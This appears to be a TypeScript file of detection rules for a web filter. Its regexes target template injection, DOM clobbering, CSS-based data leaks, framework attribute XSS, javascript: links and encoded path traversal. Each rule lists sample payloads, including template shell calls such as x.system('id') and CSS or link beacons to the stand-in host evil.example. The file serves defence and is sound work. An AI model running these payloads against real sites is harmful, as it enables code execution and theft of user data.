import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import { WORD } from '../value/words.ts'

/** Properties of every node and page, which scripts ask for by name. */
const PROPERTY =
  'attributes|nodename|nodetype|parentnode|parentelement|childnodes|firstchild|lastchild|ownerdocument|documentelement|defaultview|currentscript|innerhtml|outerhtml|textcontent|getelementbyid|queryselector|createelement|removechild|appendchild|removeattribute|setattribute|createnodeiterator'

/** Marks of templates and pages that act without a word of script, of engines whichever they are. */
export const foreignTagRules: readonly Rule[] = [
  // Directives of engines whose marks nobody types: Template Toolkit, FreeMarker in brackets, Mako, CFML.
  pattern(
    'template/foreign-directive',
    /\[%[-+=~]?\s{0,4}(?:use|perl|rawperl|throw|insert|include|process|wrapper|view|macro)\s|\[#(?:assign|include|import|function|attempt|global|local|setting)\s[^\]\n]{0,120}[?="/]|<%!\s{0,4}(?:import|from|private|public|static|def)\b|<cf(?:output|set|include|param|loop|if)\b[^>\n]{0,80}>?[^<\n]{0,60}#\s{0,2}\w{1,40}\s?\(|<%(?:page|def|block|namespace|include)\s{1,4}\w{1,16}\s?=/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.bracket | CHAR.less,
      words: 0,
      attacks: [
        "[% USE x = Shell %][% x.system('id') %]",
        '[#assign x="freemarker.template.utility.Execute"?new()]',
        "<%! import os %>${os.listdir('/')}",
        "<cfoutput>#expandPath('/')#</cfoutput>",
      ],
      benign: ['100 [% used]', '[#assign]', '<%!', '<cfoutput>', '[#include me]'],
    },
  ),
  // What an engine itself is called in its templates, a method with an argument in one of Go, and secrets.
  pattern(
    'template/engine-name',
    /\{\{-?\s{0,4}(?:_(?:context|charset)\b|_self\b(?!\.\w{1,32}\()|\.(?:request|req|ctx|context|echo|gin|app|c)(?:\.\w{1,32}){1,4}\s{1,2}["'`]|(?:secret|plugin)\s{1,2}["'`])|\{\{[^{}\n]{0,80}(?:\(\s{0,2}\)\s{0,2}\[\s{0,2}[a-z_]|\]\s{0,2}\(\s{0,2}\)\s{0,2}\[)\w{1,16}\s{0,2}\]|@inject\s?\(\s?["']\w{1,24}["']\s?,\s?["']\\?(?:illuminate|app)\\/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace | CHAR.paren,
      words: 0,
      attacks: [
        '{{ _context|json_encode }}',
        '{{ .Request.Header.Get "Authorization" }}{{ .Ctx.Redirect "http://evil.example" }}',
        '{{ secret "database/creds" }}',
        '{{ x[y]()[z] }}',
        "@inject('x','Illuminate\\Support\\Facades\\Artisan')",
      ],
      benign: [
        '{{ .Values.image.tag | default "x" }}',
        '{{ .Labels.alertname }}',
        '{{ context }}',
        "@inject('store')",
        '{{ items[0] }}',
        '{{ items()[0] }}',
        '{{ .Site.GetPage "posts" }}',
        "{{ _self.field('a') }}",
      ],
    },
  ),
  // An element that stands in for what every script of the page asks a node for.
  pattern(
    'xss/shadowed-name',
    new RegExp(
      `<(?:input|img|image|form|object|embed|iframe|output|button|textarea|select|fieldset)\\s[^>\\n]{0,120}?\\b(?:name|id)\\s{0,2}=\\s{0,2}["']?(?:${PROPERTY})(?=["'\\s/>])`,
    ),
    {
      score: 5,
      quotable: true,
      chars: CHAR.less,
      words: WORD.markup,
      attacks: [
        '<form id=test><input name=attributes><input name=nodeName>',
        '<img name=currentScript src=data:,alert(1)>',
      ],
      benign: [
        '<input name="implementation">',
        '<input name="location">',
        '<input name="attributes[0]">',
        '<a name="attributes">',
      ],
    },
  ),
  // A style that tells its writer what stands in a field; a part of the page from a host of the writer's.
  pattern(
    'xss/telling-style',
    /\[\s{0,2}(?:value|content|href|src|nonce)\s{0,2}[\^$*]=[^\]\n]{0,60}\][^{}\n]{0,60}\{[^{}]{0,120}(?:url|image-set|src)\s{0,2}\(|<link\b[^>\n]{0,120}\brel\s{0,2}=\s{0,2}["']?(?:manifest|import|serviceworker)\b[^>\n]{0,80}\bhref\s{0,2}=\s{0,2}["']?(?:https?:)?\/\/|<meta\b[^>\n]{0,60}\bname\s{0,2}=\s{0,2}["']?referrer["']?\s[^>\n]{0,40}unsafe-url|<a\b[^>\n]{0,120}\sping\s{0,2}=\s{0,2}["']?(?:https?:)?\/\//,
    {
      score: 5,
      quotable: true,
      chars: CHAR.bracket | CHAR.less,
      words: 0,
      attacks: [
        '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
        '<link rel=manifest href=//evil.example/x>',
        '<meta name=referrer content=unsafe-url>',
        '<a ping=//evil.example href=#>',
      ],
      benign: [
        'a[href^="https"]{color:red}',
        '<link rel="manifest" href="/site.webmanifest">',
        '<meta name="referrer" content="origin">',
        '<a href="https://a.example/ping">',
      ],
    },
  ),
  // Attributes that a library of the page evaluates, with something to evaluate.
  pattern(
    'xss/library-attribute',
    /<\w{1,16}\b[^>\n]{0,160}?[\s"'/](?:(?:data-)?hx-on[:-]{1,2}[\w:-]{1,24}\s{0,2}=|(?:data-)?hx-trigger\s{0,2}=\s{0,2}["'][^"'\n]{0,40}\[[^\]"'\n]{1,80}\(|_\s{0,2}=\s{0,2}["'](?:on|init)\s{1,4}\w|(?:v-|x-|:|@|ng-|data-ng-)[\w:.-]{1,24}\s{0,2}=\s{0,2}["'][^"'\n]{0,80}(?:constructor\b|\b(?:alert|eval|fetch|import)\s?[(`])|data-action\s{0,2}=\s{0,2}["'][^"'\n]{0,40}#eval\b)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.less,
      words: 0,
      attacks: [
        '<div hx-get=/x hx-trigger="load[alert(1)]">',
        '<div data-hx-on:click="alert(1)">',
        '<div _="on load call alert(1)">',
        '<div :x="_b.constructor`alert(1)`()">',
      ],
      benign: [
        '<div hx-get="/x" hx-trigger="load">',
        '<div :class="a">',
        '<a @click="open = true">',
        '<div x-data="{ open: false }">',
      ],
    },
  ),
  // A mark of a wiki or of Markdown that leads to a script.
  pattern(
    'xss/marked-script',
    /(?:\[\[|\]\(|\]:)\s{0,2}<?\s{0,2}(?:data:text\/html\b|(?:javascript|vbscript)\s?:\s{0,2}(?:\/\/|[^\s()\]|<>]{0,60}\s?[(=\x60%;]))/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.bracket,
      words: WORD.script,
      attacks: ['[[javascript:alert(1)|x]]', '[x](javascript:alert(1))', '[a]: javascript:alert(1)'],
      benign: [
        '[JavaScript](https://a.example)',
        '[[Java]]',
        'a [list]: data',
        '[[JavaScript]]',
        '[[JavaScript: the good parts]]',
        '[a](javascript.md)',
        '[1]: javascript tutorials',
        'the [[JavaScript console|Tools]]',
      ],
    },
  ),
  // A step that says nothing, written so that a filter in front reads another name; dots that a control
  // character keeps apart until it is dropped.
  pattern('traversal/hidden-step', /(?:^|\/)%2e(?:%2f|\/)|(?:^|[/\\])\.%0[0-9a-d]\.[/\\]/, {
    score: 5,
    places: ['path'],
    chars: CHAR.percent,
    attacks: ['/lua/%2e%2fnetwork', '/api/hassio/app/.%09./supervisor/info'],
    benign: ['/a/./b', '/a/.b/c', '/a%2eb/c'],
  }),
  // A program with its arguments as the name of a parameter: a page that runs hands them on.
  pattern(
    'rce/program-name',
    /^[\w.-]{1,24}\.(?:exe|bat|cmd|ps1|com(?!\s(?:api|app|account|client|key|token|user|secret|url|web|id)\b))\s\S/,
    {
      score: 5,
      atStart: true,
      places: ['name'],
      chars: CHAR.space,
      words: WORD.probe,
      attacks: ['calc.exe 1 1 1', 'x.bat /c'],
      benign: ['setup.exe', 'a.com', 'the exe file', 'Example.com API key'],
    },
  ),
]
